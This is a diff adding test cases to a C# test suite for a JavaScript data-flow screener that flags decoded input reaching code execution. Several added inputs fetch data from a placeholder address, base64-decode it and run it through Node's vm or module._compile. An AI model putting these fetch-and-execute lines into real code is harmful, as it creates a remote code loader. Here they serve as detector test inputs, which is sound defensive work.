@@ -57,6 +57,10 @@ public sealed class FlowTests(ParserContainer parser)
     [InlineData("document.body.innerHTML = location.hash", "page location.hash > html document.body.innerHTML value")]
     [InlineData("document.write(decodeURIComponent(document.location.search))", "page document.location.search > html document.write 0")]
     [InlineData("function show({ name }) { document.body.innerHTML = name }", "parameter { name } > html document.body.innerHTML value")]
+    [InlineData("const r = await fetch('http://192.0.2.1/'); require('vm').runInThisContext(Buffer.from(await r.text(), 'base64').toString())", "decoded Buffer.from > code vm.runInThisContext 0")]
+    [InlineData("module._compile(Buffer.from(require('fs').readFileSync('a'), 'hex').toString(), 'a.js')", "decoded Buffer.from > code module._compile 0")]
+    [InlineData("const M = require('module'); new M('a')._compile(atob(process.argv[2]), 'a.js')", "decoded atob > code module._compile 0")]
+    [InlineData("fetch('http://192.0.2.1/').then(r => r.json()).then(j => new (require('vm').Script)(Buffer.from(j.code, 'base64url')).runInNewContext())", "decoded Buffer.from > code vm.Script 0")]
     [InlineData("async function run({ query, params }) { return pool.query(query, params); }", "parameter { query, params } > sql .query 0")]
     [InlineData("el.innerHTML = escapeHtml(location.hash) + location.hash", "page location.hash > html .innerHTML value")]
     [InlineData("el.innerHTML = unescapeHtml(location.hash)", "page location.hash > html .innerHTML value")]
@@ -76,6 +80,8 @@ public sealed class FlowTests(ParserContainer parser)
     [InlineData("function escapeHTML(s) { return s.replace(/</g, '&lt;') } app.get('/', (req, res) => res.send(`<b>${escapeHTML(req.query.n)}</b>`))")]
     [InlineData("import { sanitizeHtml } from './util'; el.innerHTML = '<b>' + sanitizeHtml(location.search) + '</b>'")]
     [InlineData("const { location } = require('./places'); console.log(location)")]
+    [InlineData("const t = JSON.parse(Buffer.from('eyJhIjoxfQ==', 'base64').toString()); const b = Buffer.from(t.a, 'hex'); console.log(b)")]
+    [InlineData("require('vm').runInThisContext(Buffer.from('let x = 1', 'utf8').toString())")]
     public async Task JavaScript_that_is_harmless_has_no_flow(string code) =>
         Assert.Empty(Flows(await Screening.Screener(parser).JavaScriptAsync(code)));
 
